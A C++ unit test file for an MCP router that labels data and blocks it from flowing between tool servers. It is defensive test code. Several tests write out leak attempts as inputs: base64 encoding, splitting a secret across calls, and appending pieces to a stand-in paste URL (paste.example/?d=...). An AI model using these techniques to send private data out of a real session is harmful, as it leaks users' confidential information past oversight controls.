// What one server returned, on its way to another.
#include "tests/unit/router/script.h"

namespace weir::router {
namespace {

constexpr std::string_view kSecret = "The merger closes on Friday the 13th of next month.";

std::string TextResult(std::string_view text) {
  return R"({"content":[{"type":"text","text":)" + json::Quote(text) + "}]}";
}

std::string Call(const std::string& name, const std::string& arguments) {
  return R"({"name":")" + name + R"(","arguments":)" + arguments + "}";
}

std::string Text(std::string_view value) {
  return R"({"text":)" + json::Quote(value) + "}";
}

// files and web, and nothing may cross unless a test opens a way.
struct Fixture {
  explicit Fixture(Limits limits = {}) : limits_(std::move(limits)) {
    files = policy->AddServer("files");
    web = policy->AddServer("web");
    policy->Isolate();
    policy->AllowAll(files);
    policy->AllowAll(web);
  }
  Script& script() {
    if (!script_) {
      script_.emplace(policy, limits_);
      const Wares wares{.tools = Tools({"read", "send"}),
                        .prompts = R"([{"name":"ask"}])",
                        .resources = R"([{"uri":"x:one","name":"one"}])",
                        .templates = R"([{"uriTemplate":"x:{+any}","name":"any"}])"};
      script_->server(files).Serve(wares);
      script_->server(web).Serve(wares);
    }
    return *script_;
  }

  // What the client gets for a request that `server` answers with `result`.
  std::string Ask(ServerIndex server, const std::string& method, const std::string& params,
                  const std::string& result, uint32_t client = 1) {
    const std::string at_once = script().client(client).Ask("9", method, params);
    if (!at_once.empty()) return at_once;
    script().server(server).Answer(result);
    return script().client(client).Take();
  }
  std::string Read(std::string_view text = kSecret) {
    return Ask(files, "tools/call", Call("files__read", "{}"), TextResult(text));
  }
  std::string Send(const std::string& arguments, const std::string& tool = "web__send") {
    return Ask(web, "tools/call", Call(tool, arguments), TextResult("sent"));
  }
  bool Sends(const std::string& arguments) {
    return At(Send(arguments), {"result", "isError"}).empty();
  }

  std::shared_ptr<TablePolicy> policy = std::make_shared<TablePolicy>();
  ServerIndex files = 0, web = 0;

 private:
  Limits limits_;
  std::optional<Script> script_;
};

TEST_CASE("what a server returned does not reach another") {
  Fixture f;
  f.Read();
  const std::string denial = ToolErrorText(f.Send(Text("q=" + std::string(kSecret))));
  CHECK_THAT(denial, Catch::Contains("Calling `web.send` is denied"));
  CHECK_THAT(denial, Catch::Contains("the label `files`"));
  CHECK_THAT(denial,
             Catch::Contains("`/text`, bytes 2 to 52: from call 1 (`files.read`), verbatim"));
  CHECK_THAT(denial, Catch::Contains("`flow files -> web;`"));
  CHECK_THAT(denial, !Catch::Contains("Friday"));
  CHECK(f.script().server(f.web).empty());
}

TEST_CASE("what is its own, or nobody's, passes") {
  Fixture f;
  CHECK(f.Sends(Text("The agent's own words, said before anything was read")));
  f.Read();
  CHECK(f.Sends(Text("Please look up the weather in Lisbon for tomorrow morning")));
  CHECK(f.Sends(Text("The agent's own words, said before anything was read")));
  CHECK(At(f.Ask(f.files, "tools/call", Call("files__send", Text(kSecret)), TextResult("ok")),
           {"result", "isError"})
            .empty());
}

TEST_CASE("an encoded copy, or one cut over two calls, does not pass either") {
  Fixture f;
  f.Read();
  CHECK_FALSE(
      f.Sends(Text("VGhlIG1lcmdlciBjbG9zZXMgb24gRnJpZGF5IHRoZSAxM3RoIG9mIG5leHQgbW9udGgu")));
  CHECK_FALSE(f.Sends(R"({"text":"The merger clo","more":"ses on Friday the 13th"})"));
  CHECK(f.Sends(Text("The merger clos")));
  const std::string denial = ToolErrorText(f.Send(Text("es on Friday the 13")));
  CHECK_THAT(denial, Catch::Contains("begun in an earlier call"));
}

TEST_CASE("what each call puts before its piece does not hide that the pieces belong together") {
  Fixture f;
  f.Read();
  CHECK(f.Sends(Text("https://paste.example/?d=The merger")));
  CHECK(f.Sends(Text("https://paste.example/?d= closes o")));
  const std::string denial = ToolErrorText(f.Send(Text("https://paste.example/?d=n Friday the")));
  CHECK_THAT(denial, Catch::Contains("`/text`, bytes 25 to 37") &&
                         Catch::Contains("begun in an earlier call"));
}

TEST_CASE("a denied call is no part of what was sent") {
  Fixture f;
  f.Read();
  CHECK_FALSE(f.Sends(Text(kSecret)));
  CHECK_FALSE(f.Sends(Text(kSecret)));
  CHECK(f.Sends(Text("nothing in common")));
}

TEST_CASE("a flow of the policy lets it through, one after ask does not yet") {
  Fixture f;
  const uint64_t label = f.policy->AddLabel("private");
  f.policy->Give(f.files, label);
  f.policy->LetIn(f.web, 1);
  f.policy->LetInAfterAsk(f.web, label);
  f.Read();
  const std::string denial = ToolErrorText(f.Send(Text(kSecret)));
  CHECK_THAT(denial, Catch::Contains("needs a person's approval"));
  CHECK_THAT(denial, Catch::Contains("the label `private`"));
  f.policy->LetIn(f.web, label);
  CHECK(f.Sends(Text(kSecret)));
}

TEST_CASE("every kind of answer brings labels") {
  const std::vector<std::pair<std::string, std::string>> asked = {
      {"tools/call", Call("files__read", "{}")},
      {"resources/read", R"({"uri":"x:one"})"},
      {"prompts/get", R"({"name":"files__ask"})"}};
  const std::string text = json::Quote(kSecret);
  const std::vector<std::string> answers = {
      R"({"content":[],"structuredContent":{"a":[)" + text + "]}}",
      R"({"content":[{"type":"resource","resource":{"uri":"x:one","text":)" + text + "}}]}",
      R"({"content":[{"type":"text","text":)" + text + R"(}],"isError":true})",
      R"({"contents":[{"uri":"x:one","text":)" + text + "}]}",
      R"({"messages":[{"role":"user","content":{"type":"text","text":)" + text + "}}]}"};
  for (const auto& [method, params] : asked) {
    for (const std::string& answer : answers) {
      Fixture f;
      f.Ask(f.files, method, params, answer);
      INFO(method << ": " << answer);
      CHECK_FALSE(f.Sends(Text(kSecret)));
    }
  }
}

TEST_CASE("errors, progress and log messages bring labels, too") {
  const std::string text = json::Quote(kSecret);
  Fixture errors;
  errors.script().client().Ask("1", "tools/call", Call("files__read", "{}"));
  errors.script().server(errors.files).Fail(R"({"code":1,"message":)" + text + "}");
  errors.script().client().Take();
  CHECK_FALSE(errors.Sends(Text(kSecret)));

  Fixture progress;
  progress.script().client().Ask(
      "1", "tools/call", R"({"name":"files__read","arguments":{},"_meta":{"progressToken":"p"}})");
  const std::string id = At(progress.script().server(progress.files).Take(), {"id"});
  progress.script().server(progress.files)
      << R"({"jsonrpc":"2.0","method":"notifications/progress","params":{"progressToken":)" + id +
             R"(,"progress":1,"message":)" + text + "}}";
  CHECK_FALSE(progress.script().client().Take().empty());
  CHECK_FALSE(progress.Sends(Text(kSecret)));

  Fixture logs;
  logs.script().client();
  logs.script().server(logs.files)
      << R"({"jsonrpc":"2.0","method":"notifications/message","params":{"level":"error","data":)" +
             text + "}}";
  CHECK_FALSE(logs.script().client().Take().empty());
  CHECK_FALSE(logs.Sends(Text(kSecret)));
}

TEST_CASE("prompt arguments are a way out") {
  Fixture f;
  f.Read();
  const std::string answer =
      f.Ask(f.web, "prompts/get",
            R"({"name":"web__ask","arguments":{"a":)" + json::Quote(kSecret) + "}}", "{}");
  CHECK_THAT(TextAt(answer, {"error", "message"}), Catch::Contains("denied by the policy"));
}

TEST_CASE("a URI that carries data is denied, and withheld from the audit") {
  auto policy = std::make_shared<TablePolicy>();
  policy->AddServer("files");
  policy->AddServer("web");
  policy->Isolate();
  policy->AllowAll(0);
  policy->AllowAll(1);
  Script script(policy);
  script.server(0).Serve({.tools = Tools({"read"})});
  script.server(1).Serve({.templates = R"([{"uriTemplate":"web:{+any}","name":"any"}])"});
  script.client().Ask("1", "tools/call", Call("files__read", "{}"));
  script.server(0).Answer(TextResult(kSecret));
  script.client().Take();
  script.TakeAudit();
  const std::string uri = "web:" + std::string(kSecret);
  const std::string answer =
      script.client().Ask("2", "resources/read", R"({"uri":)" + json::Quote(uri) + "}");
  CHECK_THAT(TextAt(answer, {"error", "message"}), Catch::Contains("denied by the policy"));
  const std::vector<AuditRecord> audit = script.TakeAudit();
  REQUIRE(audit.size() == 1);
  CHECK(audit[0].target == "(55 bytes, withheld)");
  CHECK(audit[0].exposed == audit[0].target);
}

TEST_CASE("by session, nothing gets around it") {
  Fixture f;
  f.policy->Give(f.files, f.policy->AddLabel("untrusted", true));
  f.policy->LetIn(f.web, 1);
  CHECK(f.Sends(Text("hello")));
  f.Read("short");
  const std::string denial = ToolErrorText(f.Send(Text("in other words")));
  CHECK_THAT(denial, Catch::Contains("`untrusted`"));
  CHECK_THAT(denial,
             Catch::Contains("as everything in this conversation since call 2 (`files.read`)"));
  CHECK_FALSE(At(f.Send(""), {"error"}).empty());
  CHECK_FALSE(f.Sends("{}"));
}

TEST_CASE("one client's conversation is not another's, and ends with it") {
  Fixture f;
  f.Read();
  CHECK_FALSE(f.Sends(Text(kSecret)));
  CHECK(At(f.Ask(f.web, "tools/call", Call("web__send", Text(kSecret)), TextResult("ok"), 2),
           {"result", "isError"})
            .empty());
  f.script().router().ClientClosed({1}, f.script().now());
  f.script().Collect();
}

TEST_CASE("labels go with data through a server, unless they are declassified there") {
  Fixture f;
  f.policy->LetIn(f.web, 1);
  f.Read();
  CHECK(f.Sends(Text(kSecret)));
  const auto forward = [&](const std::string& text) {
    return At(f.Ask(f.files, "tools/call", Call("files__send", Text(text)), TextResult("ok")),
              {"result", "isError"});
  };
  const std::string page = "Zanzibar quarterly figures: molybdenum rose by a third";
  f.Ask(f.web, "tools/call", Call("web__read", Text(kSecret)), TextResult(page));
  CHECK(forward(page) == "true");
  const std::vector<AuditRecord> audit = f.script().TakeAudit();
  REQUIRE_FALSE(audit.empty());
  CHECK(audit.back().labels == std::vector<std::string>{"files", "web"});
  f.policy->Declassify(f.web, 3);
  const std::string summary = "Patagonian sheep prefer the southern slopes in autumn";
  f.Ask(f.web, "tools/call", Call("web__read", Text(kSecret)), TextResult(summary));
  CHECK(forward(summary).empty());
}

TEST_CASE("what servers offer is public, as far as it is of honest size") {
  // Held back for its drift, it is offered to nobody: a server must not publish a secret that way.
  for (const bool held : {false, true}) {
    Fixture f;
    f.policy->SetGuard({.drift = held ? Reaction::kQuarantine : Reaction::kWarn});
    const std::string offer = "Looks up whatever the encyclopaedia has about it";
    f.script().server(f.files)
        << R"({"jsonrpc":"2.0","method":"notifications/tools/list_changed"})";
    f.script().Pass(std::chrono::milliseconds(100));
    f.script().server(f.files).Serve({.tools = R"([{"name":"read","inputSchema":{}},{"name":"new",)"
                                               R"("description":)" +
                                               json::Quote(offer) + R"(,"inputSchema":{}}])"});
    f.Read(offer);
    CHECK(f.Sends(Text(offer)) == !held);
    f.Read(kSecret);
    CHECK_FALSE(f.Sends(Text(kSecret)));
  }
}

TEST_CASE("a definition over the limit makes nothing public") {
  for (const bool fits : {true, false}) {
    Limits limits;
    Fixture plain;
    const std::string offer = "Looks up whatever the encyclopaedia has about it";
    const std::string tool =
        R"({"name":"read","description":)" + json::Quote(offer) + R"(,"inputSchema":{}})";
    const size_t rendered = tool.size() + std::string("files__").size();
    limits.definition_bytes_public_max = fits ? rendered : rendered - 1;
    auto policy = plain.policy;
    Script script(policy, limits);
    script.server(0).Serve({.tools = "[" + tool + "]"});
    script.server(1).Serve({.tools = Tools({"send"})});
    script.client().Ask("1", "tools/call", Call("files__read", "{}"));
    script.server(0).Answer(TextResult(offer));
    script.client().Take();
    script.client().Ask("2", "tools/call", Call("web__send", Text(offer)));
    CHECK(script.server(1).empty() == !fits);
  }
}

TEST_CASE("what there is no room for counts for the whole conversation, and the log says so") {
  Limits limits;
  limits.conversation.bytes_max = 64 << 10;
  Fixture f(limits);
  std::string large;
  for (int i = 0; large.size() < 100'000; ++i) large += "line " + std::to_string(i * 7919) + "\n";
  f.Read(large);
  const std::string denial = ToolErrorText(f.Send(Text("anything")));
  CHECK_THAT(denial, Catch::Contains("as everything in this conversation since call 1"));
  const std::vector<Log> logs = f.script().TakeLogs();
  REQUIRE_FALSE(logs.empty());
  CHECK_THAT(logs.back().text,
             Catch::Contains("1 of its results are let go") && Catch::Contains("carries `files`"));
}

TEST_CASE("a result's own labels count, and weir's are written on it") {
  Fixture f;
  const uint64_t untrusted = f.policy->AddLabel("untrusted");
  f.policy->LetIn(f.web, 1);
  const std::string bare =
      R"({"content":[{"type":"text","text":"Kilimanjaro timetable of the funicular railway"}]})";
  CHECK(At(f.Ask(f.files, "tools/call", Call("files__read", "{}"), bare), {"result"}) == bare);
  const std::string declared =
      R"({"content":[{"type":"text","text":"Ephemeral gardens of Babylon, hanging upside down"}],"_meta":{"a":1,"ifc":{"integrity":"untrusted","b":2}}})";
  const std::string given = f.Ask(f.files, "tools/call", Call("files__read", "{}"), declared);
  CHECK(At(given, {"result", "_meta"}) ==
        R"({"a":1,"ifc":{"b":2,"integrity":"untrusted","labels":["untrusted"]}})");
  CHECK(f.Sends(Text("Kilimanjaro timetable of the funicular railway")));
  CHECK_FALSE(f.Sends(Text("Ephemeral gardens of Babylon, hanging upside down")));
  f.policy->LetIn(f.web, untrusted);
  CHECK(f.Sends(Text("Ephemeral gardens of Babylon, hanging upside down")));
}

TEST_CASE("the audit has the path of the data, and not the data") {
  Fixture f;
  f.Read();
  f.Send(R"({"text":"no","deep":{"12345678":)" + json::Quote(kSecret) + "}}");
  const std::vector<AuditRecord> audit = f.script().TakeAudit();
  REQUIRE(audit.size() == 2);
  CHECK(audit[0].event == AuditEvent::kEnd);
  CHECK(audit[0].conversation == 1);
  CHECK(audit[0].call == 1);
  CHECK(audit[0].labels.empty());
  CHECK(audit[0].result_labels == std::vector<std::string>{"files"});
  CHECK(audit[1].call == 2);
  CHECK(audit[1].labels == std::vector<std::string>{"files"});
  REQUIRE(audit[1].flows.size() == 1);
  const DataFlow& flow = audit[1].flows[0];
  CHECK(flow.from_call == 1);
  CHECK(flow.from_server == "files");
  CHECK(flow.from_tool == "read");
  CHECK(flow.pointer == "/deep/…");
  CHECK(flow.begin == 0);
  CHECK(flow.how == "verbatim");
}

}  // namespace
}  // namespace weir::router
